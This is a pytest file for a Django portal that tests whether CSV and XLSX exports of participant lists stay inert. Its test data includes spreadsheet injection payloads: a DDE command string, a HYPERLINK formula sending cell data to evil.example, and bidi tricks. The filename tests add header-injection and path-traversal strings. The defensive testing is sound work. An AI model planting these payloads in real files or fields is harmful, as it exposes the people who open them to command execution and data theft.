"""portal/sheets.py, and the exports of a date's people: whatever somebody typed, the file does nothing (trust.md).

CSV is read by the csv module, XLSX as a zip of XML by the standard library and by openpyxl.
"""

import csv
import io
import re
import unicodedata
import zipfile
from datetime import timedelta
from xml.etree import ElementTree

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from portal import sheets
from portal.models import AccessLog, Booking, Membership
from portal.retention import K3_PERSON
from seminars.models import SessionSignup
from tests import make, source
from tests.staffroom import proven, staff
from volunteers.models import ShiftSignup

pytestmark = pytest.mark.django_db
XML = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
HOSTILE = {
    "formula": "=1+1",
    "command": "=cmd|'/c calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line end": "Kim\n=1+1",
    "spaces": " \u00a0 =1+1",
    "invisible": "\u200b\u202e=1+1",
    "wide": "＝1+1",
    "separator": 'Kim";=1+1;"',
    "comma": "Kim,=1+1",
    "quote": '"=1+1',
    "link": '=HYPERLINK("https://evil.example/?"&A1;"Klick")',
    "bidi": "Kim \u202egpj.exe",
    "control": "Kim\x07\x1b[31m",
    "error": "#N/A",
    "boolean": "TRUE",
    "long": "=" + "A" * 40_000,
    "nothing": "\u200b",
}


def of_csv(content):
    """The table as the csv module reads it; also read with a comma, as an English Excel would."""
    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def of_xlsx(content):
    """The table as it stands in the XML: (type, text) of every cell; there is no formula in any part of the file."""
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        parts = {name: file.read(name) for name in file.namelist()}
    assert [name for name in parts if "external" in name.lower() or "vba" in name.lower()] == []
    sheet = ElementTree.fromstring(parts["xl/worksheets/sheet1.xml"])
    assert list(sheet.iter(f"{XML}f")) == []
    rows = [
        {cell.get("r")[0]: (cell.get("t"), "".join(cell.itertext())) for cell in row.iter(f"{XML}c")}
        for row in sheet.iter(f"{XML}row")
    ]
    return [[row.get(column, ("", "")) for column in rows[0]] for row in rows]  # an empty cell is not there


def shows_itself(text):
    """No character of a text acts: none is a control, bidirectional or private one."""
    return [hex(ord(c)) for c in text if unicodedata.category(c)[0] == "C"] == []


@pytest.mark.parametrize("typed", HOSTILE.values(), ids=HOSTILE)
def test_what_somebody_typed_is_inert_in_csv(typed):
    content = sheets.as_csv(["Name", "Personen"], [[typed, 2], ["Kim", 1]])
    table = of_csv(content)
    assert [len(row) for row in table] == [2, 2, 2]
    assert table[1][1] == "2"
    assert not table[1][0].startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
    assert shows_itself(table[1][0])
    english = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [cell for row in english for cell in row if cell.lstrip().startswith(("=", "+", "-", "@"))] == []


@pytest.mark.parametrize("typed", HOSTILE.values(), ids=HOSTILE)
def test_what_somebody_typed_is_a_text_in_xlsx(typed):
    content = sheets.as_xlsx(["Name", "Personen"], [[typed, 2]], title="Bachputz")
    head, row = of_xlsx(content)
    assert head == [("inlineStr", "Name"), ("inlineStr", "Personen")]
    shown = sheets.plain(typed)
    assert row == [("inlineStr" if shown else "", shown), ("n", "2")]
    assert shows_itself(shown)
    cell = openpyxl.load_workbook(io.BytesIO(content)).active["A2"]
    assert (cell.data_type, cell.number_format) == (("s", "@") if shown else ("n", "General"))
    assert cell.quotePrefix == sheets.is_formula(shown)


def test_ordinary_text_stays_what_it_is():
    rows = [["Jörg Müller-Lüdenscheidt", 1, "0151 23456789"], ["Šárka O’Neill 👩‍🚒", 2, ""]]
    table = of_csv(sheets.as_csv(["Name", "Personen", "Telefon"], rows))
    assert table == [
        ["Name", "Personen", "Telefon"],
        ["Jörg Müller-Lüdenscheidt", "1", "0151 23456789"],
        ["Šárka O’Neill 👩🚒", "2", ""],  # the invisible joiner is gone
    ]


@pytest.mark.parametrize(
    "title",
    ['Bach"; filename="x.exe', "Bach\r\nSet-Cookie: a=b", "../../etc/passwd", "Bäche & Ufer", "=cmd", "💧"],
)
def test_the_name_of_the_file_is_harmless(title):
    response = sheets.download(sheets.CSV, name=title, day=make.NOW, head=["Name"], rows=[])
    given = response["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="[a-z0-9-]*2026-06-10\.csv"', given), given
    assert response["Content-Type"] == "text/csv; charset=utf-8"


@pytest.mark.slow
def test_every_table_that_leaves_the_portal_is_written_here():
    writers = [
        module
        for module, (path, _tree) in source.product().items()
        if re.search(r"csv\.(writer|DictWriter)|\bopenpyxl\b", source.read(path))
    ]
    assert writers == ["portal.sheets"]


# --- the people of a date ------------------------------------------------------------------------------


@pytest.fixture
def town():
    return make.municipality("Lich", organisation=make.organisation())


@pytest.fixture
def clerk(town):
    return proven(staff(town.organisation, name="Frau Amt"))


@pytest.fixture
def shift(town):
    action = make.opportunity(organisation=town.organisation, municipality=town)
    return make.shift(opportunity=action, starts=timezone.now() + timedelta(days=10))


def export(client, slot, kind, model="volunteers_shift"):
    return client.post(reverse(f"admin:{model}_export", args=[slot.pk]), {"format": kind})


def read(response, kind):
    return (
        of_csv(response.content)
        if kind == "csv"
        else [[text for _t, text in row] for row in of_xlsx(response.content)]
    )


def text_columns(model):
    return [
        f.name for f in model._meta.concrete_fields if f.get_internal_type() in ("CharField", "TextField")
    ]


TYPED = {"booking": ("name", "email", "phone"), "participant": SessionSignup.answers}


def test_every_text_that_a_person_types_is_in_the_table_above():
    """A new column of text needs a row in TYPED, or a reason here."""
    ours = {
        "booking": {"email_key", "erased_hash", "slot_kind", "source", "wording"},
        "participant": {"attended_by", "email_key", "status", "ended_reason"},
    }
    for name, model in (("booking", Booking), ("participant", SessionSignup)):
        personal = {column for column in text_columns(model) if column not in ours[name]}
        assert personal == set(TYPED[name]), name
    assert set(text_columns(ShiftSignup)) == ours["participant"]


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("column", [*TYPED["booking"], *TYPED["participant"]])
def test_a_hostile_value_in_any_column_of_a_person_is_inert(column, kind):
    session = make.session(starts=timezone.now() + timedelta(days=9))
    client = proven(staff(session.organisation, Membership.Role.SEMINARS, email="seminare@verband.example"))
    typed = [value for name, value in HOSTILE.items() if name != "long"]
    for number, value in enumerate(typed):
        seat = make.participant(session, place=number + 1, email_key=None)
        model, pk = (Booking, seat.booking_id) if column in TYPED["booking"] else (SessionSignup, seat.pk)
        field = model._meta.get_field(column)
        model.objects.filter(pk=pk).update(**{column: value[: field.max_length]})
    head, *rows = read(export(client, session, kind, "seminars_session"), kind)
    assert head == [
        "Name",
        "Personen",
        "Stand",
        "E-Mail",
        "Telefon",
        "Funktion",
        "Kommune oder Organisation",
        "Hinweise",
    ]
    assert [len(row) for row in rows] == [len(head)] * len(typed)
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if not shows_itself(cell)] == []
    if kind == "csv":
        assert [cell for cell in cells if sheets.is_formula(cell)] == []


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_file_holds_who_comes_and_who_waits_and_is_logged(clerk, shift, town, kind):
    kim = make.booking("kim@example.org", "Kim Muster", phone="0151 1", organisation=town.organisation)
    make.signup(shift, booking=kim, seats=2)
    opa = make.booking("", "Opa Ohnemail", phone="06404 1", organisation=town.organisation)
    make.signup(shift, booking=opa, status="waiting")
    make.signup(shift, email="offen@example.org", status="unconfirmed")
    make.signup(shift, email="weg@example.org", status="ended", ended_reason="given_back", ended_at=make.NOW)
    response = export(clerk, shift, kind)
    assert read(response, kind) == [
        ["Name", "Personen", "Stand", "E-Mail", "Telefon", "Hinweise"],
        ["Kim Muster", "2", "Platz sicher", "kim@example.org", "0151 1", ""],
        ["Opa Ohnemail", "1", "Warteliste, Platz 1", "", "06404 1", "ohne E-Mail"],
    ]
    name = f"bachputz-an-der-wetter-{timezone.localtime(shift.starts):%Y-%m-%d}.{kind}"
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    assert response["Cache-Control"] == "no-store"
    assert list(AccessLog.objects.values_list("action", "about")) == [
        (f"Liste exportiert ({kind.upper()})", shift.label)
    ]


def test_of_a_date_long_over_nobody_is_named_on_paper_or_in_a_file(clerk, shift, town):
    """Also where the form lives on because of another, later date."""
    make.signup(shift, booking=make.booking("kim@example.org", "Kim Muster", organisation=town.organisation))
    starts = timezone.now() - K3_PERSON - timedelta(hours=4)
    type(shift).objects.filter(pk=shift.pk).update(starts=starts, ends=starts + timedelta(hours=3))
    response = export(clerk, shift, "csv")
    assert (response.status_code, response["Location"]) == (302, shift.staff_path)
    paper = clerk.get(reverse("admin:volunteers_shift_print", args=[shift.pk])).content.decode()
    assert "Die Namen sind gelöscht." in paper
    assert "Kim" not in paper


@pytest.mark.parametrize("kind", ["", "exe", "CSV"])
def test_another_kind_of_file_is_not_there(clerk, shift, kind):
    assert export(clerk, shift, kind).status_code == 404
    assert AccessLog.objects.count() == 0


def test_a_file_is_not_fetched_by_a_link(clerk, shift):
    response = clerk.get(reverse("admin:volunteers_shift_export", args=[shift.pk]))
    assert (response.status_code, AccessLog.objects.count()) == (405, 0)


def test_the_printed_list_has_who_comes_by_name_and_lines_for_others(clerk, shift, town):
    for name, phone in [("Zoe Zuletzt", "0151 1"), ("Änne Anfang", "")]:
        person = make.booking(f"{name[-3:]}@example.org", name, phone=phone, organisation=town.organisation)
        make.signup(shift, booking=person, seats=2)
    opa = make.booking("", "Opa Ohnemail", organisation=town.organisation)
    make.signup(shift, booking=opa, call_since=timezone.now())  # the date was moved, and he has no address
    response = clerk.get(reverse("admin:volunteers_shift_print", args=[shift.pk]))
    assert [line["name"] for line in response.context["coming"]] == [
        "Änne Anfang",
        "Opa Ohnemail",
        "Zoe Zuletzt",
    ]
    paper = response.content.decode()
    assert "Wer kommt: 5 Personen" in paper
    assert "Bei Fragen: Frau Beispiel" in paper
    assert paper.count('class="tick"') == 3 + 3
    assert paper.count("selbst anrufen") == 1
    assert list(AccessLog.objects.values_list("action", "about")) == [("Druckliste geöffnet", shift.label)]
